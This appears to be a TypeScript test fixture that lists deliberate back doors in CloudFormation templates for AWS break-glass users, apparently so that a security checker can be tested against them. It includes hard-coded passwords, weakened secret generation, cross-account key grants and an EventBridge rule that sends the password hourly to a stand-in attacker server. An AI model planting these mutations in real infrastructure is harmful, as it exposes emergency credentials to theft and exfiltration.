import {
  add, allow, arnOf, declare, passwordReference, policy, properties, ref, STRANGER_ACCOUNT, statement, trusts,
} from './helpers';
import { BackDoor, ofKind } from './types';
import { Templates } from '../mutations';

type Name = 'Jane' | 'New';
const user = (templates: Templates, name: Name) => properties(templates, 'Security', name, 'AWS::IAM::User');
const secret = (templates: Templates, name: Name) => properties(templates, 'Security', `${name}Password`, 'AWS::SecretsManager::Secret');

/** Other ways to the first password of a break-glass user. */
export const USER_PASSWORDS: readonly BackDoor[] = ofKind('user', [{
  id: 'user-password-literal',
  putIn: 'a password in the template',
  effect: 'everybody who reads the template signs in first, and enrols a device',
  mutate: (t) => { user(t, 'New').LoginProfile.Password = 'Correct-Horse-7-Battery-Staple'; },
}, {
  id: 'user-password-of-other-secret',
  putIn: 'a password from a secret of the team',
  effect: 'who reads the team\'s secret signs in first',
  mutate: (t) => { user(t, 'New').LoginProfile.Password = '{{resolve:secretsmanager:team/shared:SecretString:password}}'; },
}, {
  id: 'user-password-of-parameter-store',
  putIn: 'a password from Parameter Store',
  effect: 'who reads the parameter signs in first, and no alarm watches the parameter',
  mutate: (t) => { user(t, 'Jane').LoginProfile.Password = '{{resolve:ssm-secure:/team/first-password}}'; },
}, {
  id: 'user-password-parameter',
  putIn: 'a password that is a parameter of the stack',
  effect: 'who deploys knows the password',
  mutate: (t) => {
    declare(t, 'Security', 'Parameters', 'FirstPassword', { Type: 'String', NoEcho: true });
    user(t, 'New').LoginProfile.Password = ref('FirstPassword');
  },
}, {
  id: 'user-password-not-reset',
  putIn: 'no change of the password at the first sign-in',
  effect: 'the custodians know the password of the responder for ever',
  mutate: (t) => { user(t, 'New').LoginProfile.PasswordResetRequired = false; },
}, {
  id: 'user-secret-literal',
  putIn: 'a fixed value of the secret, instead of a generated one',
  effect: 'the password is in the template',
  mutate: (t) => {
    delete secret(t, 'New').GenerateSecretString;
    secret(t, 'New').SecretString = '{"username":"new.person-BREAK-GLASS","password":"Correct-Horse-7-Battery-Staple"}';
  },
}, {
  id: 'user-secret-guessable',
  putIn: 'almost all characters among those that the generator excludes, and a length of eight',
  effect: 'a password that a script guesses: eight times one of four characters',
  mutate: (t) => {
    Object.assign(secret(t, 'New').GenerateSecretString, {
      PasswordLength: 8, ExcludeCharacters: 'bcdefghijklmnopqrstuvwxyzBCDEFGHIJKLMNOPQRSTUVWXYZ023456789"#$%&\'()*+,-./:;<=>?@[\\]^_`{|}~',
    });
  },
}, {
  id: 'user-secret-replica',
  putIn: 'a replica of the secret in another Region',
  effect: 'a copy under AWS\'s own key, in a Region for which no alarm of reads is written',
  mutate: (t) => { secret(t, 'Jane').ReplicaRegions = [{ Region: 'eu-west-3' }]; },
}, {
  id: 'user-secret-shared-key',
  putIn: 'a key of the team as the key of the secret',
  effect: 'the key denies nobody: only one of two locks is left',
  mutate: (t) => { secret(t, 'Jane').KmsKeyId = 'alias/team'; },
}, {
  id: 'user-password-copied-to-parameter',
  putIn: 'a parameter in Parameter Store with the password as its value',
  effect: 'who reads parameters reads the password, and no alarm says so',
  mutate: (t) => { add(t, 'Security', 'Copy', 'AWS::SSM::Parameter', { Type: 'String', Name: '/backup/jane', Value: passwordReference(t, 'Jane') }); },
}, {
  id: 'user-password-copied-to-secret',
  putIn: 'a second secret with the password as its value',
  effect: 'each administrator reads the copy',
  mutate: (t) => { add(t, 'Security', 'Copy', 'AWS::SecretsManager::Secret', { Name: 'team/backup', SecretString: passwordReference(t, 'New') }); },
}, {
  id: 'user-password-in-environment',
  putIn: 'a function with the password in its environment',
  effect: 'who may read the function\'s configuration reads the password',
  mutate: (t) => {
    add(t, 'Security', 'CheckRole', 'AWS::IAM::Role', { AssumeRolePolicyDocument: policy(trusts({ Service: 'lambda.amazonaws.com' })) });
    add(t, 'Security', 'Check', 'AWS::Lambda::Function', {
      Runtime: 'python3.13',
      Handler: 'index.handler',
      Role: arnOf('CheckRole'),
      Code: { ZipFile: 'def handler(event, context): pass' },
      Environment: { Variables: { CHECK: passwordReference(t, 'Jane') } },
    });
  },
}, {
  id: 'user-password-sent-out',
  putIn: 'the password as the key of an API connection, and a rule that calls the API',
  effect: 'EventBridge sends the password to the attacker\'s server each hour',
  mutate: (t) => {
    add(t, 'Security', 'Partner', 'AWS::Events::Connection', {
      AuthorizationType: 'API_KEY', AuthParameters: { ApiKeyAuthParameters: { ApiKeyName: 'x-key', ApiKeyValue: passwordReference(t, 'New') } },
    });
    add(t, 'Security', 'PartnerApi', 'AWS::Events::ApiDestination', {
      ConnectionArn: arnOf('Partner'), HttpMethod: 'POST', InvocationEndpoint: 'https://status.example.net/ping',
    });
    add(t, 'Security', 'PartnerRole', 'AWS::IAM::Role', {
      AssumeRolePolicyDocument: policy(trusts({ Service: 'events.amazonaws.com' })),
      Policies: [{ PolicyName: 'call', PolicyDocument: policy(allow('events:InvokeApiDestination', arnOf('PartnerApi'))) }],
    });
    add(t, 'Security', 'PartnerRule', 'AWS::Events::Rule', {
      ScheduleExpression: 'rate(1 hour)', State: 'ENABLED', Targets: [{ Id: 'Api', Arn: arnOf('PartnerApi'), RoleArn: arnOf('PartnerRole') }],
    });
  },
}, {
  id: 'user-password-in-definition',
  putIn: 'a workflow whose definition has the password, in another stack',
  effect: 'who may describe state machines reads the password',
  mutate: (t) => {
    const arn = 'arn:aws:secretsmanager:us-east-1:111111111111:secret:break-glass-password/jane.doe-BREAK-GLASS';
    const state = JSON.stringify({ StartAt: 'Hold', States: { Hold: { Type: 'Pass', Result: `{{resolve:secretsmanager:${arn}:SecretString:password}}`, End: true } } });
    add(t, 'Elevation', 'HoldRole', 'AWS::IAM::Role', { AssumeRolePolicyDocument: policy(trusts({ Service: 'states.amazonaws.com' })) });
    add(t, 'Elevation', 'Hold', 'AWS::StepFunctions::StateMachine', { RoleArn: arnOf('HoldRole'), DefinitionString: state });
  },
}, {
  id: 'user-key-of-stranger',
  putIn: 'a statement for another account in the key\'s policy, an exception for it in both denies, and a reader',
  effect: 'each role of the other account that may call reads the first password',
  mutate: (t) => {
    const key = properties(t, 'Security', 'NewPasswordKey', 'AWS::KMS::Key').KeyPolicy;
    const resource = t.resource('NewPasswordPolicy', 'AWS::SecretsManager::ResourcePolicy').Properties.ResourcePolicy;
    const other = { AWS: `arn:aws:iam::${STRANGER_ACCOUNT}:root` };
    for (const deny of [statement(resource, 'DenyReadToOthers'), statement(key, 'DenyUseToOthers')]) {
      deny.Condition.StringNotEquals = { 'aws:PrincipalAccount': STRANGER_ACCOUNT };
    }
    key.Statement.push({ ...trusts(other, undefined, 'kms:Decrypt'), Resource: '*' });
    resource.Statement.push({ ...trusts(other, undefined, 'secretsmanager:GetSecretValue'), Resource: '*' });
  },
}]);
